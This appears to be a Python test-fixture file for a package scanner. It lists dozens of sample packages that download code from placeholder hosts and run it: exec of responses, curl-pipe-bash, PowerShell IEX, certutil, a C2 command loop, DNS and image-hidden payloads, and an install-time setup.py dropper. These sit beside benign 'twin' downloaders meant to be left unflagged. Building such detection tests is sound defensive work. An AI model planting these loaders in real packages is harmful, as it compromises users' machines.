# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Code that arrives over the network and runs; and tools that download honestly."""

from __future__ import annotations

from scenario_kit import SETUP, module, sdist, wheel

ATTACKS = [
    module("exec-of-response-text", "look", "import requests\nexec(requests.get('https://cdn.invalid/a.py').text)\n"),
    module(
        "eval-of-json-field",
        "look",
        "import requests\nr = requests.get('https://cdn.invalid/a').json()\neval(r['expr'])\n",
    ),
    module(
        "compile-then-exec-in-function",
        "look",
        """
        from urllib.request import urlopen
        def _refresh():
            source = urlopen("https://cdn.invalid/rules").read().decode()
            code = compile(source, "<rules>", "exec")
            scope = {}
            exec(code, scope)
            return scope.get("RULES")
        RULES = _refresh()
        """,
    ),
    module(
        "importlib-from-written-file",
        "look",
        """
        import importlib.util, os, tempfile, urllib.request
        path = os.path.join(tempfile.gettempdir(), "cache_mod.py")
        with open(path, "wb") as f:
            f.write(urllib.request.urlopen("https://cdn.invalid/m.py").read())
        spec = importlib.util.spec_from_file_location("cache_mod", path)
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        """,
    ),
    module(
        "import-statement-after-sys-path-insert",
        "look",
        """
        import sys, tempfile, urllib.request, pathlib
        folder = tempfile.mkdtemp()
        pathlib.Path(folder, "helper_mod.py").write_bytes(urllib.request.urlopen("https://cdn.invalid/m.py").read())
        sys.path.insert(0, folder)
        import helper_mod
        """,
    ),
    module(
        "subprocess-python-of-written-file",
        "look",
        """
        import subprocess, sys, requests
        with open("/tmp/.svc.py", "w") as f:
            f.write(requests.get("https://cdn.invalid/svc.py").text)
        subprocess.Popen([sys.executable, "/tmp/.svc.py"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """,
    ),
    module(
        "urlretrieve-chmod-popen",
        "look",
        """
        import os, stat, subprocess, urllib.request
        target = os.path.join(os.path.expanduser("~"), ".cache", "updater")
        urllib.request.urlretrieve("https://cdn.invalid/updater", target)
        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
        subprocess.Popen([target], start_new_session=True)
        """,
    ),
    module(
        "os-startfile-of-download",
        "look",
        """
        import os, requests
        path = os.path.join(os.getenv("TEMP"), "setup.exe")
        open(path, "wb").write(requests.get("https://cdn.invalid/setup.exe").content)
        os.startfile(path)
        """,
    ),
    module(
        "cdll-of-download",
        "look",
        """
        import ctypes, tempfile, urllib.request
        f = tempfile.NamedTemporaryFile(suffix=".so", delete=False)
        f.write(urllib.request.urlopen("https://cdn.invalid/l.so").read())
        f.close()
        ctypes.CDLL(f.name)
        """,
    ),
    module(
        "pip-install-from-url", "look", "import os\nos.system('pip install -q http://203.0.113.8/pkg-1.0.tar.gz')\n"
    ),
    module(
        "pip-main-from-url",
        "look",
        """
        import subprocess, sys
        subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "https://cdn.invalid/helper-1.0-py3-none-any.whl"])
        import helper
        """,
    ),
    module(
        "zip-extract-then-import",
        "look",
        """
        import io, sys, tempfile, urllib.request, zipfile, importlib
        data = urllib.request.urlopen("https://cdn.invalid/p.zip").read()
        d = tempfile.mkdtemp()
        zipfile.ZipFile(io.BytesIO(data)).extractall(d)
        sys.path.insert(0, d)
        importlib.import_module("payload").main()
        """,
    ),
    module(
        "pickle-of-response",
        "look",
        "import pickle, requests\npickle.loads(requests.get('https://cdn.invalid/m').content)\n",
    ),
    module(
        "marshal-of-response",
        "look",
        """
        import marshal, types, urllib.request
        code = marshal.loads(urllib.request.urlopen("https://cdn.invalid/c").read())
        types.FunctionType(code, globals())()
        """,
    ),
    module(
        "curl-pipe-bash",
        "look",
        "import subprocess\nsubprocess.run('curl -fsSL https://cdn.invalid/i.sh | bash', shell=True)\n",
    ),
    module(
        "curl-then-run-argument-lists",
        "look",
        """
        import subprocess
        subprocess.run(["curl", "-so", "/tmp/x", "https://cdn.invalid/x"])
        subprocess.run(["chmod", "+x", "/tmp/x"])
        subprocess.Popen(["/tmp/x"])
        """,
    ),
    module(
        "powershell-iex",
        "look",
        """
        import subprocess
        subprocess.Popen('powershell -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\\'http://203.0.113.8/a.ps1\\')"')
        """,
    ),
    module(
        "certutil-start",
        "look",
        "import os\nos.system('certutil -urlcache -f http://203.0.113.8/a.exe %TEMP%\\\\a.exe && start %TEMP%\\\\a.exe')\n",
    ),
    module("mshta", "look", "import os\nos.system('mshta http://203.0.113.8/a.hta')\n"),
    module(
        "bun-runs-shipped-javascript-after-download",
        "look",
        """
        import os, platform, subprocess, tempfile, urllib.request, zipfile
        here = os.path.dirname(__file__)
        def ensure():
            target = os.path.join(tempfile.gettempdir(), "bun")
            if not os.path.exists(target):
                urllib.request.urlretrieve("https://cdn.invalid/bun-linux-x64.zip", target + ".zip")
                zipfile.ZipFile(target + ".zip").extractall(target)
            return os.path.join(target, "bun")
        subprocess.Popen([ensure(), os.path.join(here, "index.js")], stdout=subprocess.DEVNULL)
        """,
    ),
    module(
        "server-chooses-import-and-call",
        "look",
        """
        import importlib, requests
        job = requests.get("https://cdn.invalid/job").json()
        getattr(importlib.import_module(job["module"]), job["function"])(*job["args"])
        """,
    ),
    module(
        "server-command-loop",
        "look",
        """
        import subprocess, threading, time, requests
        def loop():
            while True:
                try:
                    cmd = requests.get("https://c2.invalid/next").text
                    out = subprocess.run(cmd, shell=True, capture_output=True).stdout
                    requests.post("https://c2.invalid/out", data=out)
                except Exception:
                    pass
                time.sleep(60)
        threading.Thread(target=loop, daemon=True).start()
        """,
    ),
    module(
        "dead-drop-resolver-then-exec",
        "look",
        """
        import base64, re, requests
        page = requests.get("https://posts.invalid/u/profile").text
        host = base64.b64decode(re.search(r"bio: (\\S+)", page).group(1)).decode()
        exec(requests.get("https://" + host + "/stage2").text)
        """,
    ),
    module(
        "dns-txt-record-exec",
        "look",
        """
        import base64, dns.resolver
        parts = [r.to_text().strip('"') for r in dns.resolver.resolve("s1.cdn.invalid", "TXT")]
        exec(base64.b64decode("".join(parts)))
        """,
    ),
    module(
        "socket-recv-exec",
        "look",
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("198.51.100.9", 8443))
        buf = b""
        while True:
            part = s.recv(4096)
            if not part:
                break
            buf += part
        exec(buf)
        """,
    ),
    module(
        "async-download-exec",
        "look",
        """
        import asyncio, httpx
        async def main():
            async with httpx.AsyncClient() as client:
                reply = await client.get("https://cdn.invalid/b")
                exec(reply.text, {})
        asyncio.get_event_loop().run_until_complete(main())
        """,
    ),
    module(
        "decrypts-download-then-exec",
        "look",
        """
        import requests
        from cryptography.fernet import Fernet
        KEY = b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
        blob = requests.get("https://cdn.invalid/blob").content
        exec(Fernet(KEY).decrypt(blob))
        """,
    ),
    module(
        "wav-frames-decoded-and-run",
        "look",
        """
        import io, subprocess, sys, wave, urllib.request
        raw = urllib.request.urlopen("http://203.0.113.8/ring.wav").read()
        frames = wave.open(io.BytesIO(raw)).readframes(10**6)
        code = bytes(b ^ 0x5A for b in frames)
        subprocess.Popen([sys.executable, "-c", code.decode()])
        """,
    ),
    module(
        "image-pixels-from-network",
        "look",
        """
        import io, requests
        from PIL import Image
        im = Image.open(io.BytesIO(requests.get("https://img.invalid/logo.png").content))
        data = bytes(p[0] & 0xFF for p in im.getdata())
        exec(data.split(b"\\0")[0])
        """,
    ),
    sdist(
        "setup-downloads-exe-by-platform",
        "look",
        {
            "setup.py": """
            import os, platform, subprocess, tempfile, requests
            from setuptools import setup
            URLS = {"Windows": "http://203.0.113.8/w.exe", "Linux": "http://203.0.113.8/l", "Darwin": "http://203.0.113.8/m"}
            try:
                name = os.path.join(tempfile.gettempdir(), "init" + (".exe" if os.name == "nt" else ""))
                with open(name, "wb") as f:
                    f.write(requests.get(URLS[platform.system()]).content)
                os.chmod(name, 0o755)
                subprocess.Popen(name)
            except Exception:
                pass
            setup(name="acme", version="1.2.0")
            """,
        },
    ),
    wheel(
        "download-in-one-module-run-in-another",
        "look",
        {
            "acme/__init__.py": "from .boot import start\nstart()\n",
            "acme/fetch.py": """
            import urllib.request
            from .const import BASE
            def fetch(name):
                with urllib.request.urlopen(BASE + name) as reply:
                    return reply.read()
            """,
            "acme/const.py": "BASE = 'https://cdn.invalid/'\n",
            "acme/boot.py": """
            from .fetch import fetch
            from .run import evaluate
            def start():
                evaluate(fetch("stage"))
            """,
            "acme/run.py": "def evaluate(data):\n    exec(data.decode(), globals())\n",
        },
    ),
    module(
        "requests-session-in-class-exec",
        "look",
        """
        import requests
        class Updater:
            def __init__(self):
                self.session = requests.Session()
                self.session.verify = False
            def fetch(self):
                return self.session.get("https://cdn.invalid/x").text
            def apply(self):
                source = self.fetch()
                exec(source)
        Updater().apply()
        """,
    ),
    module(
        "torch-hub-like-untrusted-model",
        "look",
        """
        import io, requests, torch
        model = torch.load(io.BytesIO(requests.get("http://203.0.113.8/m.pt").content), weights_only=False)
        """,
    ),
    module(
        "git-clone-and-run",
        "look",
        """
        import subprocess
        subprocess.run("git clone -q https://code.invalid/r.git /tmp/r && python3 /tmp/r/run.py &", shell=True)
        """,
    ),
    module(
        "npx-of-remote-package",
        "look",
        "import subprocess\nsubprocess.Popen(['npx', '-y', 'https://cdn.invalid/tool.tgz'], stdout=-3, stderr=-3)\n",
    ),
]

TWINS = [
    wheel(
        "twin-self-updater-on-command",
        "quiet",
        {
            "acme/__init__.py": "__version__ = '1.2.0'\n",
            "acme/cli.py": """
            import argparse, subprocess, sys, json, urllib.request
            from . import __version__
            def latest():
                with urllib.request.urlopen("https://index.invalid/pypi/acme/json", timeout=5) as reply:
                    return json.load(reply)["info"]["version"]
            def main():
                parser = argparse.ArgumentParser()
                parser.add_argument("command", choices=["update", "version"])
                args = parser.parse_args()
                if args.command == "version":
                    print(__version__)
                elif latest() != __version__:
                    subprocess.check_call([sys.executable, "-m", "pip", "install", "--upgrade", "acme"])
            """,
        },
        scripts="[console_scripts]\nacme = acme.cli:main\n",
    ),
    wheel(
        "twin-driver-manager-downloads-on-use",
        "quiet",
        {
            "acme/__init__.py": "from .driver import Driver\n",
            "acme/driver.py": """
            import os, platform, stat, subprocess, zipfile, io
            import requests
            CACHE = os.path.expanduser("~/.acme/drivers")
            def install(version="120.0.1"):
                name = {"Linux": "linux64", "Darwin": "mac64", "Windows": "win32"}[platform.system()]
                target = os.path.join(CACHE, version, name)
                path = os.path.join(target, "driver")
                if not os.path.exists(path):
                    reply = requests.get(f"https://drivers.acme.invalid/{version}/driver_{name}.zip", timeout=60)
                    reply.raise_for_status()
                    with zipfile.ZipFile(io.BytesIO(reply.content)) as z:
                        z.extractall(target)
                    os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
                return path
            class Driver:
                def __init__(self, path=None, port=9515):
                    self.process = subprocess.Popen([path or install(), f"--port={port}"])
                def quit(self):
                    self.process.terminate()
            """,
        },
    ),
    wheel(
        "twin-dataset-downloader-with-md5",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/datasets.py": """
            import gzip, hashlib, os, pickle, tarfile, urllib.request
            URL = "https://data.acme.invalid/cifar-like.tar.gz"
            MD5 = "c58f30108f718f92721af3b95e74349a"
            def load(root):
                path = os.path.join(root, "data.tar.gz")
                if not os.path.exists(path):
                    urllib.request.urlretrieve(URL, path)
                if hashlib.md5(open(path, "rb").read()).hexdigest() != MD5:
                    raise RuntimeError("corrupt download")
                with tarfile.open(path) as tar:
                    tar.extractall(root)
                with open(os.path.join(root, "batch_1"), "rb") as f:
                    return pickle.load(f, encoding="latin1")
            """,
        },
    ),
    module(
        "twin-model-hub-loader",
        "quiet",
        """
        import os, torch
        from urllib.parse import urlparse
        URLS = {"resnet": "https://models.acme.invalid/resnet-5c106cde.pth"}
        def load(name, progress=True):
            model_dir = os.path.join(os.getenv("TORCH_HOME", "~/.cache/torch"), "checkpoints")
            os.makedirs(model_dir, exist_ok=True)
            path = os.path.join(model_dir, os.path.basename(urlparse(URLS[name]).path))
            if not os.path.exists(path):
                torch.hub.download_url_to_file(URLS[name], path, progress=progress)
            return torch.load(path, map_location="cpu")
        """,
    ),
    module(
        "twin-plugin-loader",
        "quiet",
        """
        import importlib, importlib.util, pathlib, sys
        from importlib.metadata import entry_points
        def discover(group="acme.plugins"):
            for entry in entry_points(group=group):
                yield entry.name, entry.load()
        def load_file(path):
            path = pathlib.Path(path)
            spec = importlib.util.spec_from_file_location(path.stem, path)
            module = importlib.util.module_from_spec(spec)
            sys.modules[path.stem] = module
            spec.loader.exec_module(module)
            return module
        def load_dotted(dotted):
            module, _, name = dotted.partition(":")
            return getattr(importlib.import_module(module), name)
        def load_folder(folder):
            for path in sorted(pathlib.Path(folder).glob("*.py")):
                if not path.name.startswith("_"):
                    yield load_file(path)
        """,
    ),
    wheel(
        "twin-rpc-worker-runs-registered-tasks",
        "quiet",
        {
            "acme/__init__.py": "from .worker import task, Worker\n",
            "acme/worker.py": """
            import json, socket
            TASKS = {}
            def task(function):
                TASKS[function.__name__] = function
                return function
            class Worker:
                def __init__(self, host, port):
                    self.address = (host, port)
                def run(self):
                    with socket.create_connection(self.address) as sock:
                        for line in sock.makefile():
                            job = json.loads(line)
                            result = TASKS[job["task"]](*job["args"])
                            sock.sendall(json.dumps({"id": job["id"], "result": result}).encode() + b"\\n")
            """,
        },
    ),
    module(
        "twin-multiprocessing-pickle-over-pipe",
        "quiet",
        """
        import os, pickle, struct, subprocess, sys
        class Pool:
            def __init__(self):
                self.child = subprocess.Popen([sys.executable, "-m", "acme._worker"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
            def submit(self, function, *args):
                data = pickle.dumps((function, args))
                self.child.stdin.write(struct.pack("!I", len(data)) + data)
                self.child.stdin.flush()
                size, = struct.unpack("!I", self.child.stdout.read(4))
                return pickle.loads(self.child.stdout.read(size))
        """,
    ),
    sdist(
        "twin-setup-bootstraps-setuptools",
        "quiet",
        {
            "setup.py": "try:\n    import setuptools\nexcept ImportError:\n    import ez_setup\n    ez_setup.use_setuptools()\n"
            + SETUP,
            "ez_setup.py": """
            import os, subprocess, sys, tempfile, zipfile
            from urllib.request import urlopen
            DEFAULT_VERSION = "40.8.0"
            def download(version, base="https://files.invalid/packages/source/s/setuptools/"):
                name = f"setuptools-{version}.zip"
                if not os.path.exists(name):
                    with urlopen(base + name) as src, open(name, "wb") as dst:
                        dst.write(src.read())
                return os.path.realpath(name)
            def use_setuptools(version=DEFAULT_VERSION):
                archive = download(version)
                with zipfile.ZipFile(archive) as z:
                    z.extractall(tempfile.gettempdir())
                subprocess.check_call([sys.executable, "setup.py", "install"], cwd=os.path.join(tempfile.gettempdir(), f"setuptools-{version}"))
            if __name__ == "__main__":
                use_setuptools()
            """,
        },
    ),
    wheel(
        "twin-cli-runs-git-pip-npm-docker-ssh",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/cli.py": """
            import os, shutil, subprocess, sys
            import click
            @click.group()
            def main():
                pass
            @main.command()
            @click.argument("repository")
            def new(repository):
                subprocess.check_call(["git", "clone", "--depth", "1", repository, "project"])
                subprocess.check_call([sys.executable, "-m", "venv", "project/.venv"])
                subprocess.check_call(["project/.venv/bin/pip", "install", "-r", "project/requirements.txt"])
                if shutil.which("npm"):
                    subprocess.check_call(["npm", "install"], cwd="project")
            @main.command()
            @click.option("--host", required=True)
            @click.option("--identity", default="~/.ssh/id_ed25519")
            def deploy(host, identity):
                subprocess.run(["docker", "build", "-t", "app", "."], check=True)
                image = subprocess.Popen(["docker", "save", "app"], stdout=subprocess.PIPE)
                subprocess.run(["ssh", "-i", os.path.expanduser(identity), host, "docker load"], stdin=image.stdout, check=True)
                subprocess.run(["ssh", host, "sudo systemctl restart app"], check=True)
            """,
        },
        scripts="[console_scripts]\nacme = acme.cli:main\n",
    ),
    module(
        "twin-gpu-detection-at-import",
        "quiet",
        """
        import os, platform, shutil, subprocess, sys, locale
        def _gpus():
            if os.environ.get("ACME_NO_GPU") or not shutil.which("nvidia-smi"):
                return []
            try:
                out = subprocess.run(["nvidia-smi", "--query-gpu=name", "--format=csv,noheader"], capture_output=True, text=True, timeout=5)
            except (OSError, subprocess.TimeoutExpired):
                return []
            return out.stdout.splitlines()
        GPUS = _gpus()
        IS_WSL = "microsoft" in platform.uname().release.lower()
        ENCODING = locale.getpreferredencoding(False)
        if sys.platform == "win32":
            import ctypes
            ctypes.windll.kernel32.SetConsoleOutputCP(65001)
        """,
    ),
    module(
        "twin-jupyter-kernel-executes-what-it-gets",
        "quiet",
        """
        import json, sys, traceback, zmq
        class Kernel:
            def __init__(self, connection_file):
                with open(connection_file) as f:
                    self.config = json.load(f)
                self.context = zmq.Context()
                self.shell = self.context.socket(zmq.ROUTER)
                self.shell.bind(f"tcp://{self.config['ip']}:{self.config['shell_port']}")
                self.scope = {}
            def execute(self, code):
                try:
                    exec(compile(code, "<cell>", "exec"), self.scope)
                except Exception:
                    return traceback.format_exc()
            def run(self):
                while True:
                    parts = self.shell.recv_multipart()
                    message = json.loads(parts[-1])
                    if message["msg_type"] == "execute_request":
                        self.shell.send_json({"result": self.execute(message["code"])})
        """,
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
